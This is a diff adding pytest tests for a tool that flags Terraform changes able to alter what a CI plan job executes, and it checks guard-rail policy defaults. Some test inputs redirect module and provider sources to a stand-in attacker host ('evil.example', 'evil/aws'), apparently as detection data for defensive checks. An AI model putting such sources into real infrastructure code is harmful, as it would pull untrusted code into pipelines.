@@ -1,0 +1,78 @@
+"""After which changes a plan is its author's own word."""
+
+import pytest
+
+from scopegate.forge.integrity import PATHS, paths_of, self_reported, with_guard_rails
+from scopegate.forge.model import ChangedFile
+from scopegate.policy.limits import GuardRail, GuardRailLimit
+from scopegate.policy.load import parse_policy
+
+POLICY = """
+version: 1
+limits:
+  rails: {guard_rails: {rails: [policy], paths: [plan.sh]}, sign_off: team:platform, why: ours}
+"""
+
+
+def told(patch: str | None, path: str = "main.tf") -> list[str]:
+    return [file.why for file in self_reported([ChangedFile(path, None, patch)])]
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        '+  source = "git::https://evil.example/m"',
+        '-  source = "./modules/a"',
+        '+  source /* = */ = "evil"',
+        '+      "source": "evil/evil",',
+        '+      version = ">= 1.0"',
+        '+  provisioner "local-exec" {',
+        '+data "external" "x" {',
+        '+data "http" "x" {',
+        "+  required_providers {",
+        '+    aws = { source="evil/aws" }',
+    ],
+)
+def test_a_line_that_decides_what_the_plan_job_runs_is_told(line: str) -> None:
+    assert len(told(f"@@ -1 +1 @@\n{line}")) == 1
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        '   source = "./modules/a"',
+        "+  engine_version = 8",
+        "+  source_security_group_id = aws_security_group.a.id",
+        '+  value = "x"',
+        "+++ b/version",
+    ],
+)
+def test_other_lines_are_not(line: str) -> None:
+    assert told(f"@@ -1 +1 @@\n{line}") == []
+
+
+def test_a_change_that_is_not_shown_is_told_for_code_and_for_nothing_else() -> None:
+    assert told(None) == ["the code host does not show what changes in it"]
+    assert told(None, "picture.png") == []
+
+
+def test_both_names_of_a_renamed_file_are_paths_of_the_change() -> None:
+    assert paths_of([ChangedFile("b.tf", "a.tf"), ChangedFile("a.tf")]) == ("b.tf", "a.tf")
+
+
+def test_a_policy_without_guard_rails_gets_them() -> None:
+    document = parse_policy(
+        POLICY.replace("guard_rails: {rails: [policy], paths: [plan.sh]}", "direct_changes: {at_most: 1}"), "p"
+    )
+    (added,) = (limit for limit in with_guard_rails(document, []).limits if isinstance(limit, GuardRailLimit))
+    assert (added.rails, added.paths) == (frozenset(GuardRail), PATHS)
+
+
+def test_a_policy_with_guard_rails_keeps_its_own_people() -> None:
+    document = parse_policy(POLICY, "p")
+    limit, added = with_guard_rails(document, self_reported([ChangedFile("x.tf", None, None)])).limits
+    assert isinstance(limit, GuardRailLimit)
+    assert isinstance(added, GuardRailLimit)
+    assert limit.terms == document.limits[0].terms
+    assert set(limit.paths) == {"plan.sh", *PATHS, "x.tf"}
+    assert (added.rails, added.paths) == (frozenset(GuardRail) - {GuardRail.POLICY}, ())
